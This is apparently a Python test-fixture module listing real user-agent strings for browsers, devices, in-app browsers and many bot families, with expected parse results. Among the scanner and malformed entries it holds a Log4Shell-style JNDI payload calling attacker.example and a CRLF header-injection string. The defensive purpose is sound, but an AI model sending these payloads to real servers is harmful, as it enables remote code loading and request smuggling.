"""Real user-agent strings: browsers with what they are, and bots of every family."""

from __future__ import annotations

_WINDOWS = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
_MAC = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
_LINUX = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
_ANDROID = "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) "
_IPHONE = "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
_IPAD = "Mozilla/5.0 (iPad; CPU OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "

AGENTS: tuple[tuple[str, tuple[str, str, str, str, str]], ...] = (
    (_WINDOWS + "Chrome/154.0.0.0 Safari/537.36", ("Chrome", "154", "Windows", "10", "Desktop")),
    (_WINDOWS + "Chrome/154.0.0.0 Safari/537.36 Edg/154.0.0.0", ("Edge", "154", "Windows", "10", "Desktop")),
    (_WINDOWS + "Chrome/120.0.0.0 Safari/537.36 OPR/106.0.0.0", ("Opera", "106", "Windows", "10", "Desktop")),
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:156.0) Gecko/20100101 Firefox/156.0",
        ("Firefox", "156", "Windows", "10", "Desktop"),
    ),
    (
        "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; Tablet PC 2.0; rv:11.0) like Gecko",
        ("Internet Explorer", "11", "Windows", "7", "Desktop"),
    ),
    (_MAC + "Chrome/145.0.0.0 Safari/537.36", ("Chrome", "145", "macOS", "10.15", "Desktop")),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/26.6.2 Safari/605.1.15",
        ("Safari", "26", "macOS", "10.15", "Desktop"),
    ),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:156.0) Gecko/20100101 Firefox/156.0",
        ("Firefox", "156", "macOS", "10.15", "Desktop"),
    ),
    (_LINUX + "Chrome/146.0.0.0 Safari/537.36", ("Chrome", "146", "Linux", "", "Desktop")),
    (
        "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:154.0) Gecko/20100101 Firefox/154.0",
        ("Firefox", "154", "Ubuntu", "", "Desktop"),
    ),
    (
        "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/124.0.0.0 Safari/537.36",
        ("Chrome", "124", "ChromeOS", "14541.0", "Desktop"),
    ),
    (_ANDROID + "Chrome/153.0.0.0 Mobile Safari/537.36", ("Chrome", "153", "Android", "10", "Mobile")),
    (_ANDROID + "Chrome/153.0.0.0 Safari/537.36", ("Chrome", "153", "Android", "10", "Tablet")),
    (
        _ANDROID + "SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36",
        ("Samsung Internet", "25", "Android", "10", "Mobile"),
    ),
    (
        "Mozilla/5.0 (Android 16; Mobile; rv:156.0) Gecko/156.0 Firefox/156.0",
        ("Firefox", "156", "Android", "16", "Mobile"),
    ),
    (
        "Mozilla/5.0 (Android 14; Tablet; rv:126.0) Gecko/126.0 Firefox/126.0",
        ("Firefox", "126", "Android", "14", "Tablet"),
    ),
    (
        "Mozilla/5.0 (Linux; Android 15; V2302 Build/AP3A.240905.015; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Version/4.0 Chrome/153.0.8010.36 Mobile Safari/537.36",
        ("Android WebView", "153", "Android", "15", "Mobile"),
    ),
    (_IPHONE + "Version/26.6.1 Mobile/15E148 Safari/604.1", ("Safari", "26", "iOS", "18.7", "Mobile")),
    (_IPHONE + "CriOS/126.0.6478.54 Mobile/15E148 Safari/604.1", ("Chrome", "126", "iOS", "18.7", "Mobile")),
    (_IPHONE + "FxiOS/127.0 Mobile/15E148 Safari/605.1.15", ("Firefox", "127", "iOS", "18.7", "Mobile")),
    (
        _IPHONE + "Mobile/15E148 [FBAN/FBIOS;FBAV/470.0.0.36.105;FBDV/iPhone14,2;FBSN/iOS;FBSV/18.7]",
        ("Facebook", "470", "iOS", "18.7", "Mobile"),
    ),
    (_IPHONE + "GSA/316.0.632379105 Mobile/15E148 Safari/604.1", ("Google App", "316", "iOS", "18.7", "Mobile")),
    (_IPAD + "Version/17.5 Mobile/15E148 Safari/604.1", ("Safari", "17", "iOS", "17.5", "Tablet")),
    (
        "Opera/9.80 (Android; Opera Mini/36.2.2254/119.132; U; id) Presto/2.12.423 Version/12.16",
        ("Opera Mini", "36", "Android", "", "Mobile"),
    ),
    (
        "Mozilla/5.0 (Linux; Android 9; KFMAWI) AppleWebKit/537.36 (KHTML, like Gecko) Silk/120.3.1 "
        "like Chrome/120.0.0.0 Safari/537.36",
        ("Amazon Silk", "120", "Android", "9", "Tablet"),
    ),
    (
        "Mozilla/5.0 (SMART-TV; LINUX; Tizen 6.0) AppleWebKit/537.36 (KHTML, like Gecko) "
        "76.0.3809.146/6.0 TV Safari/537.36",
        ("Safari", "", "Tizen", "6.0", "TV"),
    ),
    (
        "Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/94.0.4606.128 Safari/537.36 WebAppManager",
        ("Chrome", "94", "webOS", "", "TV"),
    ),
    (
        "Mozilla/5.0 (Linux; Android 9; BRAVIA 4K UR2 Build/PTT1) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/111.0.5563.116 Safari/537.36",
        ("Chrome", "111", "Android", "9", "TV"),
    ),
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox One) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/120.0.0.0 Safari/537.36 Edge/44.18363.8131",
        ("Edge", "44", "Windows", "10", "TV"),
    ),
)
"""A string and its browser, major version, system, its version, and kind of device."""

PEOPLE_AMONG_CRAWLERS: tuple[str, ...] = (
    "Mozilla/5.0 (Linux; Android 15; CPH2557 Build/AP3A.240617.008; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Version/4.0 Chrome/142.0.7444.142 Mobile Safari/537.36 Instagram 406.0.0.58.159 Android (35/15; 480dpi; "
    "1080x2400; OPPO; CPH2557; OP573DL1; mt6833; en_MY; 822918295; IABMV/1) NV/1",
    "Mozilla/5.0 (Linux; Android 16; Pixel 10 Pro XL Build/CP1A.260305.018; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Version/4.0 Chrome/146.0.7680.174 Mobile Safari/537.36 MetaIAB Facebook",
    _WINDOWS + "Code/1.115.0 Chrome/142.0.7444.265 Electron/39.8.5 Safari/537.36",
    _WINDOWS + "Trae/1.107.1 Chrome/142.0.7444.235 Electron/39.2.7 Safari/537.36",
    "Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10_5_6; en-us) AppleWebKit/528.16 (KHTML, like Gecko) Fluid/0.9.6 "
    "Safari/528.16",
)
"""Listed as crawlers in public, but browsers inside apps and editors: people look at pages with them."""

BROWSERS: tuple[str, ...] = (
    *(user_agent for user_agent, _ in AGENTS),
    "Mozilla/5.0 (Linux; arm_64; Android 12; CTR-L81) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/150.0.7871.119 YaBrowser/26.8.3.119.00 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; U; Android 8.1.0; zh-cn; MI 8 Build/OPM1.171019.011) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Version/4.0 Chrome/57.0.2987.108 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 9; CUBOT X19) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/96.0.4664.45 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 10; CUBOT_P30) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/96.0.4664.45 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 12; ruby Build/SP1A) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 14; SM-S918B Build/UP1A; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 "
    "Chrome/124.0 Mobile Safari/537.36 musical_ly_2023404050 JsSdk/1.0 BytedanceWebview/d8a21c6",
    "UCWEB/2.0 (MIDP-2.0; U; Adr 6.0.1; en-US; Redmi_4A) U2/1.0.0 UCBrowser/11.0.0.1016 U2/1.0.0 Mobile",
    "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:38.0) Gecko/20100101 Firefox/38.0 FirePHP/0.7.4",
    _WINDOWS + "Slack/4.36.140 Chrome/120.0.6099.291 Electron/28.3.1 Safari/537.36",
    _WINDOWS + "Chrome/118.0.0.0 Safari/537.36 Vivaldi/6.4.3160.34",
    _IPHONE + "Version/17.0 EdgiOS/124.0.2478.50 Mobile/15E148 Safari/605.1.15",
    _IPHONE + "Mobile/15E148 Instagram 331.0.3.29.98 (iPhone14,5; iOS 18_7; en_GB; en-GB; scale=3.00)",
    _ANDROID + "Version/4.0 Chrome/124.0.6367.82 Mobile Safari/537.36 [LinkedInApp]",
    _ANDROID + "UCBrowser/13.4.0.1306 Mobile Safari/537.36",
    "Mozilla/5.0 (X11; Fedora; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0",
    "Mozilla/5.0 (X11; FreeBSD amd64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (Linux; Android 12; Bot A1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120 Mobile Safari/537.36",
    _IPHONE + "Mobile/15E148 HeartMonitor/2.1",
    _ANDROID + "Version/4.0 Chrome/124.0.6367.82 Mobile Safari/537.36 BabyMonitoring/3.0",
    # consoles, televisions, watches
    "Mozilla/5.0 (PlayStation; PlayStation 5/6.00) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/15.4 "
    "Safari/605.1.15",
    "Mozilla/5.0 (PlayStation 4 11.00) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/15.4 Safari/605.1.15",
    "Mozilla/5.0 (PLAYSTATION 3 4.90) AppleWebKit/531.22.8 (KHTML, like Gecko)",
    "Mozilla/5.0 (Nintendo Switch; WebApplet) AppleWebKit/609.4 (KHTML, like Gecko) NF/6.0.2.20.5 "
    "NintendoBrowser/5.1.0.20935",
    "Mozilla/5.0 (Nintendo WiiU) AppleWebKit/536.30 (KHTML, like Gecko) NX/3.0.4.2.13 NintendoBrowser/4.3.2.11274.EU",
    "Opera/9.80 (Linux mips; Opera TV Store/6110) Presto/2.12.407 Version/12.51 Model/Vestel-MB95 Vestel/TV",
    "Mozilla/5.0 (Linux; Android 12; BRAVIA 4K VH2 Build/STT2.230203.001) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Linux; Andr0id 9; BRAVIA 4K UR3) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.152 "
    "Safari/537.36 OPR/46.0.2207.0 OMI/4.21.0.273.DIA6.149",
    "Mozilla/5.0 (X11; Linux armv7l) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/79.0.3945.79 Safari/537.36 "
    "WebAppManager",
    "Mozilla/5.0 (Linux; Android 9; AFTKA) AppleWebKit/537.36 (KHTML, like Gecko) Silk/108.4.6 "
    "like Chrome/108.0.5359.220 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; Chromecast) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 "
    "CrKey/1.56.500000",
    "Roku/DVP-12.0 (12.0.0.4182-88)",
    "Roku4640X/DVP-7.70 (297.70E04154A)",
    "AppleTV11,1/17.0 (tvOS 17.0)",
    "HbbTV/1.5.1 (+DRM;Samsung;SmartTV2019;T-HKMFDEUC-1423.5;;) FVC/2.0",
    "Mozilla/5.0 (New Nintendo 3DS like iPhone) AppleWebKit/536.30 (KHTML, like Gecko) NX/3.0.0.5.24 Mobile "
    "NintendoBrowser/1.12.10178.EU",
    "Opera/9.30 (Nintendo Wii; U; ; 3642; en)",
    "Mozilla/5.0 (PSP (PlayStation Portable); 2.60)",
    "Mozilla/5.0 (Linux; Tizen 2.3; SM-R750) AppleWebKit/537.3 (KHTML, like Gecko) Version/2.3 Mobile Safari/537.3",
    # browsers inside apps
    _IPHONE + "Mobile/15E148 [FBAN/FBIOS;FBAV/440.0.0.38.107;FBBV/545165398;FBDV/iPhone14,5;FBMD/iPhone;FBSN/iOS]",
    _IPHONE + "Mobile/15E148 Snapchat/12.70.0.31 (like Safari/8617.1.17.10.9, panda)",
    _IPHONE + "Mobile/15E148 MicroMessenger/8.0.44(0x18002c2d) NetType/WIFI Language/en",
    _IPHONE + "Mobile/15E148 BytedanceWebview/d8a21c6 musical_ly_33.0.0 JsSdk/2.0 NetType/WIFI Channel/App Store",
    _IPHONE + "GSA/300.0.598994205 Mobile/15E148 Safari/604.1",
    _ANDROID + "Version/4.0 Chrome/124.0.6367.82 Mobile Safari/537.36 Pinterest for Android/12.15.0",
    _ANDROID + "Version/4.0 Chrome/124.0.6367.82 Mobile Safari/537.36 Line/13.18.1/IAB",
    # apps with a name of their own
    "Dalvik/2.1.0 (Linux; U; Android 9; SM-G960F Build/PPR1.180610.011)",
    "SiteMonitor Pro/4.2 (iPhone; iOS 17.5)",
    "Crypto Monitor/1.9.2 CFNetwork/1494.0.7 Darwin/23.4.0",
    "Air Quality Monitor/3.3 (Android 14; Pixel 8) okhttp/4.12.0",
    "PulseMonitor/2 CFNetwork/1410.0.3 Darwin/22.6.0",
    "Preview Studio/1.2 (macOS 14.4)",
    *PEOPLE_AMONG_CRAWLERS,
)

BOTS: tuple[tuple[str, str], ...] = (
    ("empty", ""),
    ("empty", "-"),
    ("empty", "Mozilla/5.0"),
    ("empty", "test"),
    ("crawler", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
    (
        "crawler",
        "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/120.0.6099.109 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    ),
    ("crawler", "Googlebot-Image/1.0"),
    ("crawler", "AdsBot-Google (+http://www.google.com/adsbot.html)"),
    ("crawler", "Mediapartners-Google"),
    ("crawler", "FeedFetcher-Google; (+http://www.google.com/feedfetcher.html)"),
    ("crawler", "Mozilla/5.0 (compatible; Google-InspectionTool/1.0;)"),
    ("crawler", "GoogleOther"),
    ("crawler", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"),
    ("preview", _WINDOWS + "Chrome/116.0.1938.76 Safari/537.36 BingPreview/1.0b"),
    ("crawler", "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)"),
    ("crawler", "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)"),
    ("crawler", "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)"),
    ("crawler", "Mozilla/5.0 (compatible; Yahoo! Slurp; http://help.yahoo.com/help/us/ysearch/slurp)"),
    ("crawler", "Mozilla/5.0 (compatible; SeznamBot/4.0; +http://napoveda.seznam.cz/seznambot-intro/)"),
    ("crawler", "Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)"),
    ("crawler", "Mozilla/5.0 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)"),
    (
        "crawler",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
    ),
    (
        "crawler",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
    ),
    (
        "crawler",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ChatGPT-User/1.0; +https://openai.com/bot",
    ),
    (
        "crawler",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)",
    ),
    (
        "crawler",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0; "
        "+https://perplexity.ai/perplexitybot)",
    ),
    ("crawler", "CCBot/2.0 (https://commoncrawl.org/faq/)"),
    (
        "crawler",
        "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 "
        "(compatible; Bytespider; spider-feedback@bytedance.com)",
    ),
    ("crawler", "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"),
    ("crawler", "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)"),
    ("crawler", "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)"),
    ("crawler", "Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)"),
    ("crawler", "Screaming Frog SEO Spider/19.2"),
    ("crawler", "Mozilla/5.0 (compatible; DataForSeoBot/1.0; +https://dataforseo.com/dataforseo-bot)"),
    ("preview", "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)"),
    ("crawler", "meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)"),
    ("preview", "Twitterbot/1.0"),
    ("preview", "LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)"),
    ("preview", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)"),
    ("preview", "TelegramBot (like TwitterBot)"),
    ("preview", "WhatsApp/2.23.20.0"),
    ("preview", "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)"),
    ("crawler", "Pinterestbot/1.0 (+http://www.pinterest.com/bot.html)"),
    ("preview", "Mozilla/5.0 (Windows NT 6.1; WOW64) SkypeUriPreview Preview/0.5"),
    ("headless", _LINUX + "HeadlessChrome/120.0.6099.28 Safari/537.36"),
    (
        "headless",
        "Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1 Safari/538.1",
    ),
    ("headless", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:126.0) Gecko/20100101 Firefox/126.0 selenium webdriver"),
    ("monitor", _MAC + "Chrome/98.0.4695.0 Safari/537.36 Chrome-Lighthouse"),
    ("monitor", _LINUX + "Chrome/124.0.0.0 Safari/537.36 PTST/240501.173422"),
    ("monitor", _LINUX + "Chrome/133.0.0.0 Safari/537.36 (Checkly, https://www.checklyhq.com)"),
    ("library", "curl/8.5.0"),
    ("library", "Wget/1.21.4"),
    ("library", "python-requests/2.31.0"),
    ("library", "Python-urllib/3.11"),
    ("library", "Python/3.11 aiohttp/3.9.1"),
    ("library", "python-httpx/0.27.0"),
    ("library", "Scrapy/2.11.0 (+https://scrapy.org)"),
    ("library", "Go-http-client/2.0"),
    ("library", "Java/17.0.9"),
    ("library", "Apache-HttpClient/4.5.14 (Java/17.0.9)"),
    ("library", "okhttp/4.12.0"),
    ("library", "axios/1.6.7"),
    ("library", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)"),
    ("library", "PostmanRuntime/7.36.3"),
    ("library", "GuzzleHttp/7"),
    ("library", "Ruby, Faraday v2.7.4"),
    ("library", "libwww-perl/6.67"),
    ("monitor", "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"),
    ("monitor", "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)"),
    ("scanner", "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)"),
    ("scanner", "Mozilla/5.0 zgrab/0.x"),
    ("scanner", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
    ("scanner", "${jndi:ldap://attacker.example/a} Mozilla/5.0 (Windows NT 10.0)"),
    ("malformed", "Mozilla/5.0 (Windows NT 10.0)\r\nX-Injected: yes"),
    ("malformed", "Mozilla/5.0 (Windows NT 10.0) \ud800"),
    ("crawler", "AhrefsBot/7.0 (iPhone; iOS 17.5)"),
    ("library", "okhttp/4.12.0 (Android 14; Pixel 8)"),
    ("library", "python-requests/2.31.0 (Android 14)"),
    ("library", "MyShop/3.2.1 (Android 14) curl/8.5.0"),
    ("crawler", "MyShop/3.2.1 (Android 14; +https://shop.example/bot)"),
    ("crawler", "Mozilla/5.0 (Linux; Android 10; Googlebot) AppleWebKit/537.36 Chrome/120.0.0.0 Mobile Safari/537.36"),
)
"""The kind of bot and its string."""
